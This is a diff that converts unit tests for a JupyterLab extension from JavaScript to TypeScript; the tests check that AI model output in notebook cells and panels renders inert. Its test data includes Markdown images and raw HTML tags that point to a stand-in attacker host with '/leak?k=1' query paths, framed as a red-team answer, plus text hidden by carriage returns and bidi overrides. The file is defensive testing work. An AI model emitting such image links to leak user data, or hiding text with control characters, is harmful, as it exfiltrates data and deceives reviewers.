@@ -1,37 +1,29 @@
-/*
- * Unit tests of what keeps model text inert: the Markdown source rewrite for
- * notebook cells (checked through `marked`, the parser JupyterLab uses), the
+/**
+ * What keeps model text inert: the Markdown source rewrite for notebook
+ * cells (checked through `marked`, the parser JupyterLab uses), the
  * rendered-tree rewrite of the panel (on a small fake DOM: Node has none),
  * and the visible control characters of approval cards.
  */
-'use strict';
+import * as assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { marked } from 'marked';
 
-const test = require('node:test');
-const assert = require('node:assert/strict');
+import * as inert from '../inertMarkdown';
+import * as controls from '../visibleControls';
 
-// JupyterLab's own Markdown parser (a dependency of its markedparser extension).
-let marked = null;
-try {
-  marked = require('marked').marked;
-} catch {
-  // checked through the rewrite's own output only
+function render(markdown: string): string {
+  return marked.parse(markdown, { async: false });
 }
-const needsMarked = { skip: marked ? false : 'the marked package is not installed' };
-
-const loadTs = require('./loadTs');
-
-const inert = loadTs('inertMarkdown.ts');
-const controls = loadTs('visibleControls.ts');
 
 // ------------------------------------------------------------------ helpers
 
 const EVIL = 'http://127.0.0.2:9999';
 
 /** Tags and attributes of rendered HTML that would fetch from another host. */
-function remoteFetches(html) {
-  const found = [];
+function remoteFetches(html: string): string[] {
+  const found: string[] = [];
   const tag = /<([a-zA-Z][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/g;
-  let m;
+  let m: RegExpExecArray | null;
   while ((m = tag.exec(html))) {
     const name = m[1].toLowerCase();
     if (['script', 'style', 'iframe', 'link', 'object', 'embed', 'base', 'meta'].includes(name)) {
@@ -39,7 +31,7 @@ function remoteFetches(html) {
       continue;
     }
     const attr = /([^\s=/>]+)\s*=\s*("([^"]*)"|'([^']*)'|([^\s>]+))/g;
-    let a;
+    let a: RegExpExecArray | null;
     while ((a = attr.exec(m[2]))) {
       const key = a[1].toLowerCase();
       const value = a[3] ?? a[4] ?? a[5] ?? '';
@@ -108,7 +100,7 @@ test('attributeRisk and styleFetches', () => {
 
 // ------------------------------------------------------------------ Markdown source
 
-test('inertMarkdownSource: the red-team answer renders with nothing remote', needsMarked, () => {
+test('inertMarkdownSource: the red-team answer renders with nothing remote', () => {
   const source = [
     `Result: ![x](${EVIL}/leak?k=1)`,
     '',
@@ -122,14 +114,14 @@ test('inertMarkdownSource: the red-team answer renders with nothing remote', nee
   assert.match(out, /<a href=http:\/\/127\.0\.0\.2:9999\/leak2>image \(not loaded\)<\/a>/);
   assert.match(out, /<img src=x>/);
   assert.doesNotMatch(out, /onerror/);
-  const html = marked.parse(out);
+  const html = render(out);
   assert.deepEqual(remoteFetches(html), []);
   assert.match(html, /<a href="http:\/\/127\.0\.0\.2:9999\/leak\?k=1">image: x<\/a>/);
   // The unrewritten source would have fetched: the check itself works.
-  assert.equal(remoteFetches(marked.parse(source)).length, 3);
+  assert.equal(remoteFetches(render(source)).length, 3);
 });
 
-test('inertMarkdownSource: every Markdown image form', needsMarked, () => {
+test('inertMarkdownSource: every Markdown image form', () => {
   const cases = [
     `![ref][r]\n\n[r]: ${EVIL}/ref.png`,
     `![r]\n\n[r]: ${EVIL}/shortcut.png`,
@@ -151,12 +143,12 @@ test('inertMarkdownSource: every Markdown image form', needsMarked, () => {
   ];
   for (const source of cases) {
     const out = inert.inertMarkdownSource(source);
-    assert.deepEqual(remoteFetches(marked.parse(out)), [], `${source}\n->\n${out}`);
+    assert.deepEqual(remoteFetches(render(out)), [], `${source}\n->\n${out}`);
     assert.equal(inert.inertMarkdownSource(out), out, `idempotent: ${source}`);
   }
 });
 
-test('inertMarkdownSource: raw HTML in every shape the browser reads', needsMarked, () => {
+test('inertMarkdownSource: raw HTML in every shape the browser reads', () => {
   const cases = [
     `<IMG SRC=${EVIL}/upper>`,
     `<img/src="${EVIL}/slash">`,
@@ -183,7 +175,7 @@ test('inertMarkdownSource: raw HTML in every shape the browser reads', needsMark
   ];
   for (const source of cases) {
     const out = inert.inertMarkdownSource(source);
-    assert.deepEqual(remoteFetches(marked.parse(out)), [], `${source}\n->\n${out}`);
+    assert.deepEqual(remoteFetches(render(out)), [], `${source}\n->\n${out}`);
     assert.equal(inert.inertMarkdownSource(out), out, `idempotent: ${source}`);
   }
 });
@@ -206,29 +198,41 @@ test('inertMarkdownSource: local images, links and plain text stay as they were'
 
 // ------------------------------------------------------------------ rendered trees (fake DOM)
 
+interface IClickEvent {
+  defaultPrevented: boolean;
+  preventDefault(): void;
+  stopPropagation(): void;
+}
+
+/** The part of a DOM element that makeInert uses. */
 class FakeElement {
-  constructor(doc, localName, attributes = {}) {
-    this.ownerDocument = doc;
-    this.localName = localName;
+  constructor(
+    readonly ownerDocument: IFakeDocument,
+    readonly localName: string,
+    attributes: Record<string, string> = {}
+  ) {
     this.attributes = Object.entries(attributes).map(([name, value]) => ({ name, value }));
-    this.children = [];
-    this.parentElement = null;
-    this.listeners = {};
-    this.text = '';
-    this.loaded = 0;
   }
-  get textContent() {
+
+  attributes: { name: string; value: string }[];
+  children: FakeElement[] = [];
+  parentElement: FakeElement | null = null;
+  listeners: Record<string, ((event: IClickEvent) => void)[]> = {};
+  text = '';
+  loaded = 0;
+
+  get textContent(): string {
     return this.text + this.children.map(c => c.textContent).join('');
   }
-  set textContent(value) {
+  set textContent(value: string) {
     this.text = value;
     this.children = [];
   }
-  getAttribute(name) {
+  getAttribute(name: string): string | null {
     const found = this.attributes.find(a => a.name === name);
     return found ? found.value : null;
   }
-  setAttribute(name, value) {
+  setAttribute(name: string, value: unknown): void {
     const found = this.attributes.find(a => a.name === name);
     if (found) {
       found.value = String(value);
@@ -236,23 +240,23 @@ class FakeElement {
       this.attributes.push({ name, value: String(value) });
     }
   }
-  removeAttribute(name) {
+  removeAttribute(name: string): void {
     this.attributes = this.attributes.filter(a => a.name !== name);
   }
-  append(...children) {
+  append(...children: FakeElement[]): this {
     for (const child of children) {
       child.parentElement = this;
       this.children.push(child);
     }
     return this;
   }
-  querySelectorAll() {
-    const out = [];
-    const walk = el => el.children.forEach(c => (out.push(c), walk(c)));
+  querySelectorAll(): FakeElement[] {
+    const out: FakeElement[] = [];
+    const walk = (el: FakeElement): void => el.children.forEach(c => (out.push(c), walk(c)));
     walk(this);
     return out;
   }
-  contains(other) {
+  contains(other: FakeElement | null): boolean {
     for (let el = other; el; el = el.parentElement) {
       if (el === this) {
         return true;
@@ -260,42 +264,61 @@ class FakeElement {
     }
     return false;
   }
-  remove() {
+  remove(): void {
     if (this.parentElement) {
       const siblings = this.parentElement.children;
       siblings.splice(siblings.indexOf(this), 1);
       this.parentElement = null;
     }
   }
-  replaceWith(other) {
-    const parent = this.parentElement;
+  replaceWith(other: FakeElement): void {
+    const parent = this.parentElement!;
     parent.children[parent.children.indexOf(this)] = other;
     other.parentElement = parent;
     this.parentElement = null;
   }
-  addEventListener(type, listener) {
+  addEventListener(type: string, listener: (event: IClickEvent) => void): void {
     (this.listeners[type] = this.listeners[type] || []).push(listener);
   }
-  click() {
-    const event = { defaultPrevented: false, preventDefault() { this.defaultPrevented = true; }, stopPropagation() {} };
+  click(): IClickEvent {
+    const event: IClickEvent = {
+      defaultPrevented: false,
+      preventDefault() {
+        this.defaultPrevented = true;
+      },
+      stopPropagation() {}
+    };
     (this.listeners.click || []).forEach(listener => listener(event));
     return event;
   }
-  load() {
+  load(): void {
     this.loaded++;
   }
   /** Every attribute value in the tree, to look for remote URLs. */
-  allValues() {
-    return [...this.attributes.map(a => `${this.localName} ${a.name}=${a.value}`), ...this.children.flatMap(c => c.allValues())];
+  allValues(): string[] {
+    return [
+      ...this.attributes.map(a => `${this.localName} ${a.name}=${a.value}`),
+      ...this.children.flatMap(c => c.allValues())
+    ];
   }
 }
 
+interface IFakeDocument {
+  createElement(name: string): FakeElement;
+}
+
 function fakeDocument() {
-  const doc = {
+  const doc: IFakeDocument = {
     createElement: name => new FakeElement(doc, name)
   };
-  const h = (name, attributes, ...children) => new FakeElement(doc, name, attributes).append(...children);
+  const h = (name: string, attributes: Record<string, string>, ...children: FakeElement[]) =>
+    new FakeElement(doc, name, attributes).append(...children);
   return { doc, h };
+}
+
+/** makeInert on the fake tree (it takes a DOM Element). */
+function makeInert(root: FakeElement, options: inert.IInertOptions): number {
+  return inert.makeInert(root as unknown as Element, options);
 }
 
 const BASE = 'http://127.0.0.1:8888/lab/tree/a.ipynb';
@@ -304,9 +327,9 @@ test('makeInert: a remote image waits behind a button; a click loads it', () => 
   const { h } = fakeDocument();
   const img = h('img', { src: `${EVIL}/leak?k=1`, alt: 'x' });
   const root = h('div', {}, h('p', {}, img));
-  const loaded = [];
-  const allowed = new Set();
-  const n = inert.makeInert(root, { base: BASE, allowed, onLoad: urls => loaded.push(...urls) });
+  const loaded: string[] = [];
+  const allowed = new Set<string>();
+  const n = makeInert(root, { base: BASE, allowed, onLoad: (urls: string[]) => loaded.push(...urls) });
   assert.equal(n, 1);
   assert.deepEqual(root.allValues().filter(v => v.includes('127.0.0.2') && !v.startsWith('button title')), []);
   const button = root.children[0].children[0];
@@ -325,7 +348,7 @@ test('makeInert: a remote image waits behind a button; a click loads it', () => 
   for (const url of loaded) {
     allowed.add(url);
   }
-  assert.equal(inert.makeInert(again, { base: BASE, allowed }), 0);
+  assert.equal(makeInert(again, { base: BASE, allowed }), 0);
   assert.equal(again.children[0].getAttribute('src'), `${EVIL}/leak?k=1`);
 });
 
@@ -338,7 +361,7 @@ test('makeInert: same-origin and data: images show, links stay links', () => {
     h('img', { src: 'data:image/png;base64,AAAA' }),
     h('a', { href: `${EVIL}/page` }, h('img', { src: 'plot.png' }))
   );
-  assert.equal(inert.makeInert(root, { base: BASE }), 0);
+  assert.equal(makeInert(root, { base: BASE }), 0);
   assert.deepEqual(
     root.children.map(c => c.localName),
     ['img', 'img', 'a']
@@ -365,7 +388,7 @@ test('makeInert: media, srcset, CSS, handlers and dangerous elements', () => {
     h('style', {}),
     h('iframe', { src: `${EVIL}/frame` })
   );
-  assert.equal(inert.makeInert(root, { base: BASE }), 4);
+  assert.equal(makeInert(root, { base: BASE }), 4);
   assert.deepEqual(root.allValues().filter(v => v.includes('127.0.0.2') && !v.startsWith('button title')), []);
   const labels = root.children.filter(c => c.localName === 'button').map(c => c.textContent);
   assert.deepEqual(labels, [
@@ -396,7 +419,7 @@ test('makeInert: media, srcset, CSS, handlers and dangerous elements', () => {
 test('splitControls: CR, backspace, ANSI escapes, C1, bidi and zero-width show as markers', () => {
   const text = "HIDDEN='ran'\rprint('visible')\x08\x1b[31m\u0085a\u202Eb\u2066c\u200Bd\uFEFF\u061C\u200E\n\tok";
   const segments = controls.splitControls(text);
-  const labels = segments.filter(s => s.control).map(s => s.control.label);
+  const labels = segments.filter(s => s.control).map(s => s.control!.label);
   assert.deepEqual(labels, [
     '\\r',
     '\\b',
@@ -410,7 +433,7 @@ test('splitControls: CR, backspace, ANSI escapes, C1, bidi and zero-width show a
     '<U+200E>'
   ]);
   assert.equal(segments.map(s => s.text).join(''), text, 'nothing lost');
-  assert.ok(segments.find(s => s.control && s.control.label === '<U+202E>').control.name.includes('right-to-left override'));
+  assert.ok(segments.find(s => s.control?.label === '<U+202E>')?.control?.name.includes('right-to-left override'));
   assert.equal(
     controls.visibleString(text),
     "HIDDEN='ran'\\rprint('visible')\\b\\x1b[31m\\x85a<U+202E>b<U+2066>c<U+200B>d<U+FEFF><U+061C><U+200E>\n\tok"
